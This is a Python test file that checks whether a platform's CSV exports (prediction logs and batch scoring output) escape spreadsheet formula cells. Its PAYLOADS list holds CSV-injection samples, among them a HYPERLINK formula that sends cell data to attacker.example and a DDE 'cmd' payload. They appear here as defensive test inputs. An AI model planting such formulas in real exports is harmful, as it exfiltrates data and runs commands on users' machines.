"""Every CSV export escapes formula cells (issue 27 item 6): prediction exports (`cli.py predictions export
--out x.csv`), batch scoring output, the audit export; text a spreadsheet would run (``=``, ``+``, ``-``, ``@``,
tab, CR) gets a leading ``'``, numbers are written as they are, and no CSV writer in core bypasses this."""

from __future__ import annotations

import csv
import re
from datetime import timedelta
from pathlib import Path
from typing import cast

import numpy as np
import pyarrow as pa
from sqlalchemy import Table, insert

from core.platform.database import transaction
from core.platform.prediction_log import parquet
from core.platform.prediction_log.export import export
from core.platform.prediction_log.writer import Served, rows_of
from core.platform.storage import LocalStore
from core.serving.batch_io import FileOutput
from db.models import PredictionLog
from tests.core.platform.prediction_log.test_parquet import NOW, compact
from tests.support.factories import admin_actor

PAYLOADS = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1", "\r=1"]
ROOT = Path(__file__).resolve().parents[3]


def _log(factory, at, values: list[str]) -> None:
    items = [Served(parquet.new_request_id(at), at + timedelta(seconds=i), "churn", "champion", 3,
                    {"plan": np.array([v], dtype=object), "n": np.array([-i], dtype=np.int64)}, [v], 1.0, "token:ci")
             for i, v in enumerate(values)]
    with transaction(factory) as session:
        session.execute(insert(cast(Table, PredictionLog.__table__)), rows_of(items))


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as fh:
        return list(csv.DictReader(fh))


def test_prediction_exports_escape_formula_cells_in_both_tiers(factory, tmp_path: Path) -> None:
    store = LocalStore(tmp_path / "ws")
    _log(factory, NOW - timedelta(hours=3), PAYLOADS)  # compacted to Parquet
    compact(factory, store)
    _log(factory, NOW - timedelta(minutes=5), PAYLOADS)  # still in the database
    out = tmp_path / "x.csv"
    assert export(factory, store, actor=admin_actor(), model="churn", out=out)["rows"] == 2 * len(PAYLOADS)
    rows = _cells(out)
    for row in rows:
        assert row["plan"].startswith("'") and row["plan"][1:] in PAYLOADS
        assert row["output"].startswith("'")
        assert re.fullmatch(r"-?\d+", row["n"]), "numbers are written as they are"


def test_batch_scoring_csv_output_escapes_formula_cells(tmp_path: Path) -> None:
    output = FileOutput(tmp_path / "scored.csv")
    output.write(pa.table({"=id": ["a", "=1+1"], "prediction": ["-x", "ok"], "score": [-1.5, 2.0]}))
    output.publish()
    rows = _cells(tmp_path / "scored.csv")
    assert rows == [{"'=id": "a", "prediction": "'-x", "score": "-1.5"},
                    {"'=id": "'=1+1", "prediction": "ok", "score": "2"}]


def test_no_csv_writer_in_core_bypasses_the_escaping() -> None:
    writers = re.compile(r"CSVWriter\(|csv\.writer\(|\.to_csv\(|write_csv\(")
    allowed = {"core/workspace/bootstrap.py"}  # the demo data `init --demo` writes: LeanOps' own, not an export
    unsafe = []
    for path in sorted((ROOT / "core").rglob("*.py")):
        rel = str(path.relative_to(ROOT))
        text = path.read_text()
        if writers.search(text) and rel not in allowed and not re.search(r"csv_safe_table|csv_cell", text):
            unsafe.append(rel)
    assert not unsafe, f"CSV written without core.platform.exports: {unsafe}"
